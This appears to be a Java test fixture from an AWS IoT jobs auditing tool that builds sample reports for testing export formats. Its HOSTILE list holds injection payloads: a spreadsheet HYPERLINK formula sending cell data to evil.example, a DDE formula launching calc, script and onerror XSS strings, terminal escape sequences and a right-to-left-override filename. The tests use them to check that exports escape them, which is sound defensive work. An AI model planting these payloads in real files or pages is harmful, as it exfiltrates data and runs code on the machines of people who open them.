package dev.iotjobs.auditor.export;

import dev.iotjobs.auditor.audit.api.ApiCalls;
import dev.iotjobs.auditor.audit.result.NotEvaluated;
import dev.iotjobs.auditor.audit.result.RegionRun.Outcome;
import dev.iotjobs.auditor.audit.result.RegionRun.Read;
import dev.iotjobs.auditor.audit.result.RuleCounts;
import dev.iotjobs.auditor.audit.result.RuleCoverage;
import dev.iotjobs.auditor.audit.result.RunSummary;
import dev.iotjobs.auditor.audit.result.TimeSpan;
import dev.iotjobs.auditor.fact.Coverage;
import dev.iotjobs.auditor.fact.QuotaUsage;
import dev.iotjobs.auditor.finding.Finding;
import dev.iotjobs.auditor.finding.Finding.Event;
import dev.iotjobs.auditor.finding.FindingBuilder;
import dev.iotjobs.auditor.finding.FindingKey;
import dev.iotjobs.auditor.finding.FindingStatus;
import dev.iotjobs.auditor.finding.TransitionType;
import dev.iotjobs.auditor.job.AccountLabel;
import dev.iotjobs.auditor.job.AccountRegion;
import dev.iotjobs.auditor.job.JobKey;
import dev.iotjobs.auditor.job.Origin;
import dev.iotjobs.auditor.job.SiblingKey;
import dev.iotjobs.auditor.rule.CliCommand;
import dev.iotjobs.auditor.rule.End;
import dev.iotjobs.auditor.rule.Evidence;
import dev.iotjobs.auditor.rule.Gap;
import dev.iotjobs.auditor.rule.RuleDefinition;
import dev.iotjobs.auditor.rule.Severity;
import dev.iotjobs.auditor.rule.Subject;
import dev.iotjobs.auditor.rule.book.RuleBook;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Supplier;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Sample reports for tests of report formats. */
public record SampleReport(
        List<ReportedRegion> regions,
        List<ReportedDay> days,
        List<ReportedExemption> exemptions,
        Supplier<Stream<Finding>> findings)
        implements ReportData {

    public static final Instant NOW = Instant.parse("2026-03-10T07:00:00Z");
    public static final ReportInfo INFO = new ReportInfo("1.4.0", "0123abc", NOW.plusSeconds(60));

    private static final AccountRegion IRELAND = new AccountRegion("aws", "123456789012", "eu-west-1");
    private static final AccountRegion BEIJING = new AccountRegion("aws-cn", "210987654321", "cn-north-1");
    private static final List<RuleDefinition<?>> RULES = RuleBook.standard().definitions();

    /** Texts that could harm a person who opens a report. */
    public static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1+1",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\uFF1D1+1",
            "\uFF20SUM(1)",
            "<script>alert(1)</script>",
            "</style><img src=x onerror=alert(1)>",
            "a\u0000b\u0007c\u001B[2J\u001B]0;title\u0007",
            "photo\u202Egnp.exe",
            "\uD83D half, half \uDE00, whole \uD83D\uDE00",
            "line one\r\nline two\u2028line three",
            "quote \" comma , semicolon ; apostrophe '",
            "a".repeat(64));

    @Override
    public Instant asOf() {
        return NOW;
    }

    @Override
    public AccountLabel account(String accountId) {
        return AccountLabel.of(accountId);
    }

    @Override
    public Stream<Finding> open() {
        return findings.get().filter(Finding::isOpen);
    }

    @Override
    public Stream<Finding> closedSince(Instant time) {
        return findings.get()
                .filter(finding -> !finding.isOpen() && !finding.updatedAt().isBefore(time));
    }

    /** A report without findings. */
    public static SampleReport nothing() {
        return new SampleReport(List.of(region(IRELAND)), List.of(), List.of(), Stream::empty);
    }

    /**
     * A report with one open finding of each rule and severity. For each rule, it also has one exempted finding, and
     * one closed finding for each reason to close.
     */
    public static SampleReport ofEachRule() {
        List<Finding> all = new ArrayList<>();
        for (RuleDefinition<?> rule : RULES) {
            rule.severities()
                    .keySet()
                    .forEach(severity -> all.add(finding(rule, subject(rule, "job-" + severity), severity)
                            .build()));
        }
        for (RuleDefinition<?> rule : RULES) {
            all.add(finding(rule, subject(rule, "exempted"), rule.worst())
                    .status(FindingStatus.SUPPRESSED, null)
                    .exemption("EX-1")
                    .build());
        }
        for (RuleDefinition<?> rule : RULES) {
            for (End end : End.values()) {
                all.add(finding(rule, subject(rule, "closed-" + end), rule.worst())
                        .status(FindingStatus.CLOSED, end)
                        .history(
                                List.of(
                                        new Event(NOW.minusSeconds(900), TransitionType.REOPENED, rule.worst(), null),
                                        new Event(NOW, TransitionType.CLOSED, rule.worst(), end)),
                                18)
                        .build());
            }
        }
        return new SampleReport(
                List.of(region(IRELAND), region(BEIJING)),
                List.of(day(0), day(1)),
                List.of(exemption("EX-1")),
                all::stream);
    }

    /** A report with harmful texts in job names, reasons and targets. */
    public static SampleReport hostile() {
        RuleDefinition<?> rule = RULES.getFirst();
        List<Finding> all = HOSTILE.stream()
                .map(text -> finding(rule, job(text), Severity.HIGH)
                        .because(
                                text,
                                Evidence.of("name", text),
                                List.of(CliCommand.fix("Set a timeout:", "iot", "update-job", "--job-id", text)))
                        .targets(List.of("arn:aws:iot:eu-west-1:123456789012:thing/" + text), 1)
                        .build())
                .toList();
        List<ReportedExemption> exemptions =
                HOSTILE.stream().map(SampleReport::exemption).toList();
        return new SampleReport(List.of(region(IRELAND)), List.of(), exemptions, all::stream);
    }

    /** A report with {@code count} open findings, which are created while they are read. */
    public static SampleReport ofMany(int count) {
        return new SampleReport(
                List.of(region(IRELAND)),
                List.of(day(0)),
                List.of(),
                () -> IntStream.range(0, count)
                        .mapToObj(i -> finding(
                                        RULES.get(i % RULES.size()), job("fw-camera-3-7-5-wave-" + i), Severity.MEDIUM)
                                .build()));
    }

    private static FindingBuilder finding(RuleDefinition<?> rule, Subject subject, Severity severity) {
        Instant since = NOW.minus(Duration.ofDays(1));
        return Finding.builder(new FindingKey(IRELAND, subject, rule.id()), severity, NOW)
                .rule(rule.version(), rule.title(), rule.fix())
                .because(
                        "76 of 200 executions failed or timed out (38.0 %); 1,650 executions are still to come",
                        Evidence.of("status", "IN_PROGRESS")
                                .and("failed", 76)
                                .and("rate", 38.5)
                                .and("known", true),
                        List.of(
                                CliCommand.fix(
                                        "Stop the rollout:",
                                        "iot",
                                        "cancel-job",
                                        "--job-id",
                                        subject.name(),
                                        "--comment",
                                        CliCommand.WHY),
                                CliCommand.look("See it:", "iot", "describe-job", "--job-id", subject.name())))
                .origin(subject.job() == null ? null : Origin.SELF)
                .targets(
                        subject.job() == null
                                ? List.of()
                                : List.of("arn:aws:iot:eu-west-1:123456789012:thinggroup/pumps"),
                        subject.job() == null ? 0 : 1)
                .since(since)
                .history(List.of(new Event(since, TransitionType.OPENED, severity, null)));
    }

    private static Subject subject(RuleDefinition<?> rule, String name) {
        return switch (rule.judges().name()) {
            case "job" -> job(name);
            case "deleted job" ->
                new Subject.OfDeletedJob(new JobKey("arn:aws:iot:eu-west-1:123456789012:job/" + name, NOW));
            case "quota" -> new Subject.OfQuota(IRELAND, "L-FBF5CD89");
            case "Region" -> new Subject.OfRegion(IRELAND);
            case "group of jobs" ->
                new Subject.OfSiblings(IRELAND, Origin.SELF, new SiblingKey(SiblingKey.Kind.ID_STEM, name));
            case "target" -> new Subject.OfTarget(IRELAND, "arn:aws:iot:eu-west-1:123456789012:thinggroup/" + name);
            case "rule" -> new Subject.OfRule(IRELAND, "IOTJ-CFG-01");
            default -> throw new IllegalArgumentException(rule.judges().name());
        };
    }

    private static Subject job(String jobId) {
        return new Subject.OfJob(
                new JobKey("arn:aws:iot:eu-west-1:123456789012:job/" + jobId, NOW.minus(Duration.ofDays(2))));
    }

    private static ReportedExemption exemption(String text) {
        return new ReportedExemption("123456789012", text, text, text, text, LocalDate.of(2027, 1, 31), null, 3);
    }

    private static ReportedDay day(int ago) {
        return new ReportedDay(
                LocalDate.of(2026, 3, 10).minusDays(ago),
                Map.of("IOTJ-CFG-01", Map.of(Severity.MEDIUM, 5), "IOTJ-RUN-01", Map.of(Severity.HIGH, 2)),
                Map.of("OPENED", 2, "CLOSED", 1),
                Map.of(
                        IRELAND,
                        Map.of(
                                "L-FBF5CD89",
                                new ReportedDay.Usage(82, 100),
                                "L-D80B05DB",
                                new ReportedDay.Usage(7, 0))));
    }

    private static ReportedRegion region(AccountRegion place) {
        RunSummary summary = new RunSummary(
                "run-1",
                Outcome.COMPLETED,
                "",
                new TimeSpan(NOW, NOW.plusSeconds(41)),
                new Coverage(
                        place,
                        new Coverage.Listed(301, 0, Coverage.Listing.COMPLETE, ""),
                        300,
                        297,
                        new Coverage.Failures(2, 0, 1, 0, List.of()),
                        new Coverage.NotReached(1, 0, 0, NOW),
                        Coverage.Deletions.NONE),
                new RuleCoverage(1_000, 3),
                List.of("scope: quotas count every job of the account"));
        Map<String, RuleCounts> rules = Map.of(
                "IOTJ-CFG-01",
                new RuleCounts(
                        290,
                        3,
                        1,
                        Map.of(Severity.MEDIUM, 5),
                        Map.of(Gap.MISSING, 3),
                        Map.of(Gap.MISSING, "job-1"),
                        Set.of(Gap.MISSING)));
        Read read = new Read(
                Map.of("DescribeJob", new ApiCalls(300, 1, 2)),
                List.of(new QuotaUsage(
                        place,
                        new QuotaUsage.Quota("L-FBF5CD89", "Concurrent jobs"),
                        100.0,
                        QuotaUsage.LimitSource.APPLIED,
                        82,
                        0,
                        true)),
                List.of(new NotEvaluated(place.region(), "secret-1", NotEvaluated.Reason.DENIED, "not authorized")));
        return new ReportedRegion(summary, rules, read);
    }
}
